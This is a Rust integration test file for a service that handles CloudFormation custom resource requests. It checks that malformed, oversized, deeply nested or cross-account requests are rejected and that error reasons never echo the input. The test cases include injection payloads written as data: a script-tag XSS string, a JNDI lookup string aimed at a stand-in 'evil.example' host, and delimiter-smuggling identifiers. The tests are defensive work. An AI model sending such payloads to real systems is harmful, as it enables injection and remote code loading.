//! Class 14: oversized or deep JSON, unknown types, numbers as texts, texts as anything, reasons without end.
//!
//! Guard: 32 KB, the parser's own depth limit, exact types (`Envelope::parse`, `shared/core/src/domain/request/custom_resource.rs`);
//! what is wrong is told in our own sentences and never repeated.

use std::time::{Duration, Instant};

use futures::future::try_join_all;
use latchkey_tests::{
    Error,
    customer::Customer,
    scene::{Scene, text},
    stack_template::StackTemplate,
};
use serde_json::{Value, json};

use super::support::{admissible, assert_not_read};

#[tokio::test]
async fn a_message_that_is_no_request_of_cloudformation_is_not_worked_on() -> Result<(), Error> {
    let scene = Scene::open()?;
    let attacker = scene.new_customer("us-east-1").await?;
    let request = admissible(&scene, &attacker).await?;
    let topic = scene.ready.topic("us-east-1")?;
    let other_topic = scene.ready.topic("eu-west-1")?;
    let with = |name: &str, value: Value| request.clone().with(name, value);
    let without = |name: &str| {
        let mut request = request.clone();
        request.fields.as_object_mut().unwrap().remove(name);
        request.text()
    };
    let deep = format!("{{\"RequestType\":{}{}}}", "[".repeat(10_000), "]".repeat(10_000));
    let other_account = request.stack_id().replace(&attacker.account, "222222222222");
    let cases = [
        (
            with(
                "ServiceToken",
                json!("arn:aws:sns:us-east-1:222222222222:latchkey-listener"),
            )
            .text(),
            "ServiceToken",
        ),
        (with("ServiceToken", json!(other_topic)).text(), "ServiceToken"),
        (
            request
                .clone()
                .with_property("ServiceToken", json!(other_topic))
                .text(),
            "ServiceToken",
        ),
        (with("RequestType", json!("Describe")).text(), "RequestType"),
        (with("RequestType", json!("create")).text(), "RequestType"),
        (with("RequestType", json!(1)).text(), "RequestType"),
        (
            with("RequestType", json!("Update")).sign().text(),
            "PhysicalResourceId",
        ),
        (
            with("RequestType", json!("Delete")).sign().text(),
            "PhysicalResourceId",
        ),
        (
            with("RequestType", json!("Delete"))
                .with("PhysicalResourceId", json!("x".repeat(1_025)))
                .text(),
            "PhysicalResourceId",
        ),
        (
            with("RequestType", json!("Delete"))
                .with("PhysicalResourceId", json!("a\nb"))
                .text(),
            "PhysicalResourceId",
        ),
        (
            with("PhysicalResourceId", json!("x")).text(),
            "PhysicalResourceId",
        ),
        (
            with("ResourceType", json!("Custom::Other")).text(),
            "ResourceType",
        ),
        (with("StackId", json!("arn:aws:s3:::bucket")).text(), "StackId"),
        (with("StackId", json!(other_account)).text(), "ResponseURL"),
        (with("RequestId", json!("a#REQUEST#b")).sign().text(), "RequestId"),
        (
            with("RequestId", json!("x".repeat(129))).sign().text(),
            "RequestId",
        ),
        (
            with("LogicalResourceId", json!("a|b")).sign().text(),
            "LogicalResourceId",
        ),
        (
            with("ResourceProperties", json!("x")).text(),
            "ResourceProperties",
        ),
        (with("ResourceProperties", json!([])).text(), "ResourceProperties"),
        (without("RequestType"), "RequestType"),
        (without("StackId"), "StackId"),
        (without("RequestId"), "RequestId"),
        (without("LogicalResourceId"), "LogicalResourceId"),
        (without("ResponseURL"), "ResponseURL"),
        (without("ResourceType"), "ResourceType"),
        (without("ResourceProperties"), "ResourceProperties"),
        (
            request
                .clone()
                .with_property("Padding", json!("x".repeat(40_000)))
                .text(),
            "request",
        ),
        (
            request
                .clone()
                .with_property("Padding", json!("x".repeat(200_000)))
                .text(),
            "request",
        ),
        (deep, "request"),
        ("[".repeat(30_000), "request"),
        ("[]".to_owned(), "request"),
        ("null".to_owned(), "request"),
        ("hello".to_owned(), "request"),
        ("{\"RequestType\":\"Create\",\u{202e}}".to_owned(), "request"),
    ];
    for (message, field) in cases {
        let sent: String = message.chars().take(200).collect();
        assert_not_read(&scene, &attacker, topic, &message, request.stack_id(), field)
            .await
            .map_err(|error| format!("{} bytes of {sent}: {error}", message.len()))?;
    }
    // A request of one region, through the topic of another.
    let elsewhere = request.clone().with("ServiceToken", json!(other_topic));
    let elsewhere = elsewhere.with_property("ServiceToken", json!(other_topic)).text();
    let other_region = Customer::sign_in(&scene.ready.endpoint, &attacker.account, "eu-west-1").await?;
    assert_not_read(
        &scene,
        &other_region,
        other_topic,
        &elsewhere,
        request.stack_id(),
        "StackId",
    )
    .await?;
    Ok(())
}

#[tokio::test]
async fn garbage_in_the_properties_is_told_to_the_stack_at_once_and_leaves_nothing_behind()
-> Result<(), Error> {
    let scene = Scene::open()?;
    let api = scene.acme()?;
    let long = "x".repeat(3_000);
    let cases = [
        (
            "RoleArn",
            json!(["arn:aws:iam::222222222222:role/x"]),
            "RoleArn is not a text",
        ),
        ("RoleArn", json!({ "a": { "b": "c" } }), "RoleArn is not a text"),
        (
            "RoleArn",
            json!("<script>alert(1)</script>"),
            "RoleArn is not an ARN",
        ),
        ("RoleArn", json!(long), "RoleArn is not an ARN"),
        (
            "TemplateVersion",
            json!("1.0.0\n[active]"),
            "TemplateVersion is not a version",
        ),
        ("TemplateVersion", json!(long), "TemplateVersion is not a version"),
        ("TemplateVersion", json!({}), "TemplateVersion is not a text"),
        ("ExternalId", json!(["a", "b"]), "ExternalId"),
        (
            "ExternalId",
            json!("${jndi:ldap://evil.example/a}"),
            "never issued this external ID",
        ),
    ];
    let attempts = cases.map(|(property, value, sentence)| {
        let (scene, api) = (&scene, &api);
        async move {
            let link = scene.link(api, "us-east-1").await?;
            let customer = scene.new_customer("us-east-1").await?;
            let template = StackTemplate::new(&scene.ready, &text(&link, "external_id")?);
            let started = Instant::now();
            let outcome = customer
                .launch("Garbage", &template.property(property, value.clone()))
                .await?;
            outcome.expect("ROLLBACK_COMPLETE")?;
            let told = outcome.reasons.iter().any(|reason| reason.contains(sentence));
            assert!(told, "{property} = {value}: {:?}", outcome.reasons);
            let repeated = value
                .as_str()
                .is_some_and(|value| outcome.reasons.iter().any(|r| r.contains(value)));
            assert!(
                !repeated,
                "what was sent is not repeated to whoever reads the events"
            );
            assert!(
                started.elapsed() < Duration::from_secs(10),
                "{:?}",
                started.elapsed()
            );
            let shown = api.get(&text(&link, "id")?).await?;
            assert_eq!(
                (&shown["status"], &shown["reason"]),
                (&json!("pending"), &Value::Null)
            );
            // The rollback's Delete names a genuine external ID: that it came is remembered for a while.
            let left = scene.items_about(&outcome.stack_id).await?;
            assert!(left.iter().all(|key| key.starts_with("DELETED#")), "{left:?}");
            Ok::<_, Error>(())
        }
    });
    try_join_all(attempts).await?;
    Ok(())
}
